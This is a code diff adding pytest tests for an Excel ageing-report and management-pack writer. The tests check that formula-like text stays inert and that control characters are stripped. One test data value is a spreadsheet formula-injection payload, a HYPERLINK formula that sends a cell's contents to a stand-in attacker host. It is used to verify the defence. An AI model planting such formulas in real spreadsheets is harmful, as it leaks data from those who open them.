@@ -74,3 +74,50 @@ def test_the_management_pack_has_its_sheets_charts_and_formats(tmp_path):
     assert kpis.freeze_panes == "A2"
     assert len(book["Age analysis"]._charts) == 1 and len(book["DSO trend"]._charts) == 1
     assert [c.value for c in book["DSO trend"][3]] == ["2026-11", 59.2, 8]
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_both_workbooks(tmp_path):
+    import zipfile
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    report = _report()
+    report.lines[0] = Line("0000100001", "+27 Karoo Mining", "1000", "ZAR",
+                           report.lines[0].buckets, hostile)
+    report.credit_balances[0] = CreditBalance("0000100003", "@SUM(1+1)", "1000", "ZAR",
+                                              D("-400.00"), ("-2+3",))
+    pack = {"month": "2026-11", "currency": "ZAR", "dso_countback": 1.0, "dso_standard": 1.0,
+            "best_possible_dso": 1.0, "average_days_delinquent": 1.0, "cei": 1.0,
+            "targets": {}, "variance": {}, "collected": {}, "due": {}, "top": [],
+            "top60": [], "unallocated_receipts": {}, "uploads": {}, "po_alerts": {},
+            "dso_trend": []}
+    for path in (write_ageing(report, tmp_path / "ageing.xlsx"),
+                 write_pack(pack, report, tmp_path / "pack.xlsx")):
+        with zipfile.ZipFile(path) as archive:
+            sheets = [archive.read(n).decode() for n in archive.namelist()
+                      if n.startswith("xl/worksheets/sheet")]
+        assert not any("<f>" in xml for xml in sheets), path.name  # no formula at all
+        sheet = load_workbook(path)["Age analysis"]
+        row = next(r for r in sheet.iter_rows() if r[0].value == "0000100001")
+        assert (row[1].value, row[-1].value) == ("+27 Karoo Mining", hostile)
+        assert row[-1].data_type == "s"
+
+
+def test_a_control_character_in_a_name_or_comment_does_not_stop_the_workbooks(tmp_path):
+    report = _report()
+    report.lines[0] = Line("0000100001", "Karoo\x01 Mining\x1b[31m", "1000", "ZAR",
+                           report.lines[0].buckets, "called\x0b twice")
+    report.credit_balances[0] = CreditBalance("0000100003", "Hoëveld\x07", "1000", "ZAR",
+                                              D("-400.00"), ("unapplied\x00",))
+    top = [{"rank": 1, "customer": "0000100001", "name": "Karoo\x01", "currency": "ZAR",
+            "buckets": {b: "0" for b in BUCKETS}, "total": "0", "overdue": "0",
+            "commentary": "x\x02"}]
+    pack = {"month": "2026-11", "currency": "ZAR", "dso_countback": 1.0, "dso_standard": 1.0,
+            "best_possible_dso": 1.0, "average_days_delinquent": 1.0, "cei": 1.0,
+            "targets": {}, "variance": {}, "collected": {}, "due": {}, "top": top,
+            "top60": top, "unallocated_receipts": {}, "uploads": {}, "po_alerts": {},
+            "dso_trend": []}
+    sheet = load_workbook(write_ageing(report, tmp_path / "ageing.xlsx"))["Age analysis"]
+    assert sheet["B3"].value == "Karoo  Mining [31m" and sheet["L3"].value == "called  twice"
+    book = load_workbook(write_pack(pack, report, tmp_path / "pack.xlsx"))
+    assert book["Top 10"]["C2"].value == "Karoo "
+    assert book["Credit balances"]["B2"].value == "Hoëveld "
